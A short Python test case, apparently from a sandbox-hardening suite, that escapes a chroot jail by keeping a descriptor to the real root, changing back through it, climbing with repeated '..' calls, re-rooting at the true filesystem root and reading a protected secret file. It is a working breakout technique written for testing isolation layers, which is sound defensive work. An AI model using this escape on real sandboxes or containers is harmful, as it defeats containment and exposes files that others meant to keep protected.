"""Leaves its root by a second chroot, beside which its working folder stays (chroot(2)).

layers: seccomp, capabilities, mounts
"""
from attack import *

folder = f"/tmp/root-{os.getpid()}"
os.mkdir(folder)
outside = os.open("/", os.O_RDONLY)
try:
    os.chroot(folder)
finally:
    os.rmdir(folder)
os.fchdir(outside)
for _ in range(64):
    os.chdir("..")
os.chroot(".")
with open(witness("FOLDER") + "/secret") as secret:
    through(secret.read().strip())
